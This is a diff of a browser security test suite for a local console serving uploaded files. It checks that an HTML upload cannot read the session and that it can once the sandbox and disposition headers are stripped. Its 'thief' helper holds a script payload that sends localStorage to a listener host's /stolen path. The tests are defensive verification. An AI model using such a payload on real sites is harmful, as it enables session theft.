@@ -119,65 +119,96 @@ test('the report has all of it, and nobody hears of that', async () => {
 /** A page of the services on the console's origin: it would read the session and use it. */
 const thief = (host) => callOuts(host, `<script>fetch('http://${host}/stolen?' + encodeURIComponent(JSON.stringify(localStorage)));new Image().src='http://${host}/image'</script>`);
 
-test('a file that is a page is opened on the origin of the console, and reaches nothing', async () => {
-  const token = server.token(MARTA);
-  const own = await server.call(token, 'POST', '/upload/drive/v3/files?uploadType=media', thief('not-there.invalid'));
-  const address = `${server.url}/drive/v3/files/${own.id}?alt=media&access_token=${token}`;
-  const tab = await context.newPage();
-  tab.on('dialog', (d) => d.dismiss());
-  const answer = await tab.goto(address);
-  assert.equal(answer.status(), 200);
-  assert.equal(answer.headers()['content-security-policy'], 'sandbox');
-  assert.equal(await tab.evaluate(() => globalThis.origin), 'null');
-  assert.equal(await tab.evaluate(() => { try { return localStorage.length; } catch { return 'none'; } }), 'none');
-  await tab.close();
-  // It is no script, no style and no frame of the page either.
-  const refused = await page.evaluate(async (url) => {
-    const asked = (element, set) => new Promise((done) => {
-      const one = document.createElement(element);
-      one.onload = () => done(`${element} loaded`);
-      one.onerror = () => done(`${element} refused`);
-      set(one);
-      document.head.append(one);
-    });
-    return [await asked('link', (e) => { e.rel = 'stylesheet'; e.href = url; })];
-  }, address);
-  assert.deepEqual(refused, ['link refused']);
-});
+const lacking = (headers, without) => Object.fromEntries(Object.entries(headers).filter(([name]) => !without.includes(name)));
 
-test('without its guard the same page would be heard of', async () => {
-  // The same server behind one that takes the policies out of its answers: what is left is the browser.
-  const token = server.token(MARTA);
-  const heard = await canary();
+/** The server on an origin of its own, where some header fields are lost: what a guard is worth without the others. */
+async function behind(...without) {
   const open = createServer((q, r) => {
-    const on = httpRequest(server.url + q.url, { method: q.method, headers: { ...q.headers, host: new URL(server.url).host } }, (answer) => {
-      const headers = { ...answer.headers };
-      delete headers['content-security-policy'];
-      r.writeHead(answer.statusCode, headers);
+    q.pipe(httpRequest(server.url + q.url, { method: q.method, headers: { ...lacking(q.headers, without), host: new URL(server.url).host } }, (answer) => {
+      r.writeHead(answer.statusCode, lacking(answer.headers, without));
       answer.pipe(r);
-    });
-    q.pipe(on);
+    }));
   });
   await new Promise((resolve) => open.listen(0, '127.0.0.1', resolve));
+  return {
+    url: `http://localhost:${open.address().port}`,
+    close: () => {
+      open.closeAllConnections?.();
+      return new Promise((resolve) => open.close(resolve));
+    },
+  };
+}
+
+/** Opens a file that is a page where somebody is in, and gives what the listener heard. */
+async function openFile(origin, heard, wanted) {
+  const token = server.token(MARTA);
   const other = await fresh();
   try {
-    const own = await server.call(token, 'POST', '/upload/drive/v3/files?uploadType=media', thief(heard.host).replace(/<meta http-equiv="refresh"[^>]*>/, ''));
+    const html = thief(heard.host).replace(/<meta http-equiv="refresh"[^>]*>/, '');
+    const own = await server.call(token, 'POST', '/upload/drive/v3/files?uploadType=media', html);
     const tab = await other.newPage();
-    await tab.goto(`http://localhost:${open.address().port}/drive/v3/files/${own.id}?alt=media&access_token=${token}`);
-    for (const way of ['/stolen?', '/img', '/script.js', '/style.css', '/iframe'])
-      await tab.waitForFunction(() => true).then(async () => {
-        while (!heard.seen.some((s) => s.text.includes(`GET ${way}`))) await tab.evaluate(() => new Promise((done) => setTimeout(done, 20)));
-      });
-    // And the frame without its cleaner and its policy.
-    const before = heard.seen.length;
-    await tab.setContent(`<iframe srcdoc="${callOuts(heard.host).replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`, { waitUntil: 'commit' });
-    while (heard.seen.length <= before) await tab.evaluate(() => new Promise((done) => setTimeout(done, 20)));
+    await tab.goto(`${origin}/_sosia/v1/health`);
+    await tab.evaluate(() => localStorage.setItem('session', 'console_w_1_stolen')).catch(() => {});
+    await tab.goto(`${origin}/drive/v3/files/${own.id}?alt=media&access_token=${token}`);
+    const turn = () => tab.evaluate(() => new Promise((done) => setTimeout(done, 20)));
+    for (const way of wanted) while (!heard.seen.some((s) => s.text.includes(`GET ${way}`))) await turn();
+    const about = await tab.evaluate(() => ({ origin: globalThis.origin, title: document.title }));
+    return about;
   } finally {
     await other.close();
-    open.closeAllConnections?.();
-    await new Promise((resolve) => open.close(resolve));
-    await heard.close();
   }
+}
+
+test('a file that is a page is no page of the origin of the console', async () => {
+  const token = server.token(MARTA);
+  const address = `${server.url}/drive/v3/files/${file.id}?alt=media&access_token=${token}`;
+  const tab = await context.newPage();
+  // As the vendor has it, it is a download; so nothing of it runs.
+  const download = tab.waitForEvent('download', { timeout: PATIENCE });
+  await tab.goto(address).catch(() => {});
+  await (await download).cancel();
+  await tab.close();
+  silent('the download');
+  // And where it were none: the policy alone leaves it without an origin and without scripts.
+  const bare = await behind('content-disposition');
+  const heard = await canary();
+  const about = await openFile(bare.url, heard, []);
+  assert.deepEqual(about, { origin: 'null', title: 'Out' });
+  assert.deepEqual(heard.seen.filter((s) => s.text).map((s) => s.text), []); // of what no policy stops, a connection ahead of a link
+  await bare.close();
+  await heard.close();
+  // A style sheet is none for the page: its own policy would let in what comes from its origin.
+  assert.equal(await styled(page, server.url), 'refused');
+});
+
+/** Whether a page takes a file of somebody's as its style. */
+async function styled(tab, origin) {
+  const token = server.token(MARTA);
+  const css = await server.call(token, 'POST', '/upload/drive/v3/files?uploadType=media', 'body{color:red}', undefined, 'text/css');
+  return tab.evaluate((url) => new Promise((done) => {
+    const link = document.createElement('link');
+    link.rel = 'stylesheet';
+    link.href = url;
+    link.onload = () => done('loaded');
+    link.onerror = () => done('refused');
+    document.head.append(link);
+  }), `${origin}/drive/v3/files/${css.id}?alt=media&access_token=${token}`);
+}
+
+test('without its guard the same file would have the session', async () => {
+  const open = await behind('content-security-policy', 'content-disposition');
+  const heard = await canary();
+  const about = await openFile(open.url, heard, ['/stolen?', '/script.js', '/inline']);
+  assert.equal(about.origin, open.url);
+  assert.ok(heard.seen.some((s) => s.text.includes('console_w_1_stolen')));
+  await open.close();
+  const dumb = await behind('sec-fetch-dest', 'accept', 'content-security-policy');
+  const tab = await context.newPage();
+  await tab.goto(`${dumb.url}/`);
+  assert.equal(await styled(tab, dumb.url), 'loaded');
+  await tab.close();
+  await dumb.close();
+  await heard.close();
 });
 
 test('the frame is inert with its cleaner alone, and with its policy alone but for what no policy stops', async () => {
@@ -226,10 +257,11 @@ test('a page on another port of this machine reaches nothing', async () => {
   });
   await new Promise((resolve) => foreign.listen(0, '127.0.0.1', resolve));
   try {
+    const was = await server.state();
     const tab = await context.newPage(); // of the browser that has the session
     await tab.goto(`http://localhost:${foreign.address().port}/`);
     const got = await tab.evaluate(async (url) => {
-      const ask = (path, more) => fetch(url + path, { credentials: 'include', ...more }).then((a) => a.status, () => 'refused');
+      const ask = (path, more) => fetch(url + path, more).then((a) => a.status, () => 'refused');
       const framed = await new Promise((done) => {
         const frame = document.createElement('iframe');
         frame.src = `${url}/`;
@@ -265,8 +297,7 @@ test('a page on another port of this machine reaches nothing', async () => {
     assert.ok(['closed', 'none'].includes(got.read) || got.read === 0, String(got.read));
     // The page in the frame shows nothing: it may be in nobody's.
     for (const frame of tab.frames().slice(1)) assert.ok(!(await frame.evaluate(() => document.body?.innerText ?? '').catch(() => '')).includes('Worlds'));
-    const [journal] = (await server.control('GET', `/worlds/office/journal?order=newest&limit=1`)).entries;
-    assert.notEqual(journal.method, 'worlds.reset');
+    assert.equal(await server.state(), was);
     await tab.close();
   } finally {
     foreign.closeAllConnections?.();
